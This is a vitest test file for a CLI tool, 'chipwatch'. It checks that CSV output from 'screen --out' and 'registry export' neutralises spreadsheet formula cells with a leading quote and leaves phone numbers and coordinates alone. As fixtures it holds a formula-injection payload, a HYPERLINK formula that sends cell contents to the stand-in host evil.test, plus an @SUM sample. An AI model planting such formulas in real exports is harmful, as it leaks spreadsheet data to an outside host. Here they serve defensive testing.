// Formula cells in the files chipwatch writes, through the built bin: `screen --out` and `registry
// export` neutralise =HYPERLINK(...) and friends with a leading ' and leave numbers and phone numbers alone.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rowsToCsv, sampleRows } from '../../src/registry/sample.js';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const BIN = join(ROOT, 'bin', 'chipwatch.js');
const LINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")';

// Each test runs the bin several times (4-8 s each on a loaded 2-core machine).
describe('formula cells in written CSV', { timeout: 240_000 }, () => {
  let dir: string;
  const cw = (...args: string[]) => {
    const env = { ...process.env };
    delete env.DATABASE_URL;
    const r = spawnSync(process.execPath, [BIN, ...args], { env, encoding: 'utf8', cwd: dir, timeout: 120_000 });
    return { code: r.status, out: r.stdout, err: r.stderr };
  };
  beforeAll(() => {
    if (!existsSync(join(ROOT, 'dist', 'bundle', 'main.cjs'))) throw new Error('build first: npm run build');
    dir = mkdtempSync(join(tmpdir(), 'chipwatch-formula-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('screen --out: a formula name is prefixed, a phone-like name is not', () => {
    const quoted = `"${LINK.replace(/"/g, '""')}"`;
    writeFileSync(join(dir, 'parties.csv'), `name,country\n${quoted},SG\n+65 6123 4567,SG\n-12.5,SG\n@SUM(A1),SG\n`);
    const r = cw('screen', '--file', 'parties.csv', '--out', 'results.csv');
    expect(r.code, r.err).toBe(0);
    const out = parse(readFileSync(join(dir, 'results.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    expect(out.map((o) => o.name)).toEqual([`'${LINK}`, '+65 6123 4567', '-12.5', "'@SUM(A1)"]);
  });

  it('registry export: formula cells are prefixed, phone numbers and coordinates are not', () => {
    const rows = sampleRows({ count: 2, seed: 41, serialPrefix: 'FX-', month: '2026-03' });
    Object.assign(rows[0], {
      new_owner_name: LINK,
      new_owner_phone: '+65 6123 4567',
      location_phone: '+1 (555) 123-4567',
      location_operator_name: '-Ops',
      location_address: '1 Formula Way',
      location_lat: '-33.5',
      location_lon: '151.2',
    });
    writeFileSync(join(dir, 'filing.csv'), rowsToCsv(rows));
    const imp = cw('registry', 'import', 'filing.csv', '--as', 'Formula Ltd', '--data-dir', 'data');
    expect(imp.code, imp.err).toBe(0);
    const r = cw('registry', 'export', '--data-dir', 'data', '-o', 'export.csv');
    expect(r.code, r.err).toBe(0);
    const [first] = parse(readFileSync(join(dir, 'export.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    expect(first).toMatchObject({
      new_owner_name: `'${LINK}`,
      location_operator_name: "'-Ops",
      new_owner_phone: '+65 6123 4567',
      location_phone: '+1 (555) 123-4567',
      location_lat: '-33.5',
      location_lon: '151.2',
    });
  });
});
